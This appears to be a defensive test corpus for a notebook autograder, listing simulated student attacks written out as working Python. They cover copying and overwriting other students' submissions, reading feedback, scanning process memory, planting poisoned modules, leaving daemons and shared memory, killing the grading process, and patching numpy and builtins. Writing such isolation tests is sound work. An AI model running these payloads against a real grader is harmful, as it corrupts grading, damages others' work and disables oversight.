"""Against other students: their work read or changed, and things left for whoever comes next in the same process."""

from tests.nngrade.attacks.attack import Attack
from tests.nngrade.attacks.corpus.checks import SOLUTIONS
from tests.nngrade.attacks.corpus.files import SHOW

ATTACKS = (
    Attack(
        "others_work_run",
        "others' submissions",
        "Somebody has solved it, and the folder is open.",
        before=(
            "import glob, json\n"
            "solved = {}\n"
            "for path in glob.glob('@ROOT@/submitted/*/logistic/logistic.ipynb'):\n"
            "    for cell in json.load(open(path))['cells']:\n"
            "        name, text = cell['metadata'].get('nbgrader', {}).get('grade_id'), ''.join(cell['source'])\n"
            "        if 'return' in text and 'solved[' not in text:\n"
            "            solved[name] = text",
        ),
        cells={name: f"exec(solved['{name}'])" for name in SOLUTIONS},
    ),
    Attack(
        "submissions_read",
        "others' submissions",
        "What I print is in my feedback.",
        before=(SHOW + "show('@ROOT@/submitted/0-*/**/*.ipynb', '../../../submitted/0-*/**/*', '../../0-*/**/*')",),
    ),
    Attack(
        "graded_and_feedback_read",
        "what others got back",
        "Their feedback says what is right.",
        before=(SHOW + "show('@ROOT@/autograded/0-*/**/*.ipynb', '@ROOT@/feedback/0-*/**/*.html')",),
    ),
    Attack(
        "submissions_spoilt",
        "others' submissions",
        "Where others are worse I am better.",
        before=(
            "import glob\n"
            "for path in glob.glob('@ROOT@/submitted/0-*/*/*') + glob.glob('@ROOT@/autograded/0-*/*/*.ipynb'):\n"
            "    open(path, 'w').write('{}')",
        ),
    ),
    Attack(
        "memory_of_the_warm_process",
        "what the process remembers",
        "Whoever was here before me has left something in memory.",
        before=(
            "import gc, re, sys\n"
            "words = set()\n"
            "for thing in gc.get_objects():\n"
            "    try:\n"
            "        words |= set(re.findall(r'canary-[0-9a-f]+-yranac', repr(thing)[:20_000]))\n"
            "    except Exception:\n"
            "        pass\n"
            "print(words, get_ipython().user_ns.get('In'), get_ipython().history_manager.input_hist_raw[:9])",
            "import mmap\n"
            "for line in open('/proc/self/maps'):\n"
            "    first, last = (int(end, 16) for end in line.split()[0].split('-'))\n"
            "    if 'rw' in line and last - first < 50_000_000:\n"
            "        try:\n"
            "            with open('/proc/self/mem', 'rb', buffering=0) as memory:\n"
            "                memory.seek(first)\n"
            "                print(re.findall(b'canary-[0-9a-f]{24}-yranac', memory.read(last - first)))\n"
            "        except (OSError, ValueError, OverflowError):\n"
            "            pass",
        ),
    ),
    Attack(
        "files_left",
        "the working directory of the next",
        "The next one reads my files for theirs.",
        before=(
            "import os\n"
            "for folder in ('.', '/tmp', '/dev/shm', '/var/tmp', '/notebook', '/run'):\n"
            "    for name in ('left.py', 'numpy.py', 'nncheck.py', 'breast_cancer.csv', '.left', 'left'):\n"
            "        try:\n"
            "            with open(f'{folder}/{name}', 'w') as file:\n"
            "                file.write('raise SystemExit')\n"
            "            os.chmod(f'{folder}/{name}', 0)\n"
            "        except OSError:\n"
            "            pass\n"
            "os.makedirs('/tmp/a/b/c', exist_ok=True)\n"
            "os.chmod('/tmp/a/b', 0)\n"
            "os.chmod('/tmp/a', 0)\n"
            "os.symlink('/code', '/tmp/link')\n"
            "os.mkfifo('/tmp/pipe')",
        ),
    ),
    Attack(
        "daemon",
        "processes that stay",
        "A process that has left its parents works on when I am gone.",
        before=(
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for descriptor in range(64):\n"
            "            try:\n"
            "                os.close(descriptor)\n"
            "            except OSError:\n"
            "                pass\n"
            "        end = time.monotonic() + 30\n"
            "        while time.monotonic() < end:\n"
            "            for name in ('/notebook/left', '/tmp/left', '/dev/shm/left', 'nncheck.py'):\n"
            "                try:\n"
            "                    open(name, 'w').write('left')\n"
            "                except OSError:\n"
            "                    pass\n"
            "            time.sleep(0.01)\n"
            "    os._exit(0)",
        ),
    ),
    Attack(
        "shared_memory",
        "memory that belongs to nobody",
        "A segment of System V stays when its process ends, and another student reads it.",
        before=(
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "print(libc.shmget(0x1234, 4096, 0o1666), libc.msgget(0x1234, 0o1666), libc.semget(0x1234, 1, 0o1666))\n"
            "print(os.strerror(ctypes.get_errno()))\n"
            "from multiprocessing import shared_memory\n"
            "try:\n"
            "    shared_memory.SharedMemory('left', create=True, size=4096).buf[:4] = b'left'\n"
            "except OSError as error:\n"
            "    print(error)",
        ),
    ),
    Attack(
        "signals_to_all",
        "other processes",
        "Signals to all processes reach those of others, too.",
        before=(
            "import os, signal\n"
            "for number in (signal.SIGCONT, signal.SIGUSR1, signal.SIGTERM, signal.SIGHUP):\n"
            "    for process in (os.getppid(), 1, 2):\n"
            "        try:\n"
            "            os.kill(process, number)\n"
            "        except OSError as error:\n"
            "            print(error.strerror)",
        ),
    ),
    Attack(
        "parent_killed",
        "the process that grades",
        "Without whoever grades, nobody fails.",
        cells={"sigmoid": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)"},
    ),
    Attack(
        "parent_stopped",
        "the process that grades",
        "Whoever is stopped is late, and all others with it.",
        before=("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)",),
    ),
    Attack(
        "thread_that_stays",
        "the process of the next",
        "A thread goes on when my cells are done.",
        before=(
            "import threading, time\n"
            "def haunt():\n"
            "    while True:\n"
            "        time.sleep(0.01)\n"
            "        try:\n"
            "            open('left', 'w').write('left')\n"
            "        except OSError:\n"
            "            pass\n"
            "threading.Thread(target=haunt).start()",
        ),
    ),
    Attack(
        "patches_that_stay",
        "the process of the next",
        "What I patch stays patched for whoever comes next.",
        before=(
            "import builtins, json, nncheck, numpy as np, os, sys\n"
            "np.exp = np.log = np.mean = lambda *a, **k: 7.0\n"
            "builtins.print = builtins.len = lambda *a, **k: 7\n"
            "json.loads = lambda *a, **k: {}\n"
            "os.environ['LEFT'] = 'left'\n"
            "sys.path.insert(0, '/tmp')\n"
            "sys.setrecursionlimit(60)",
        ),
    ),
)
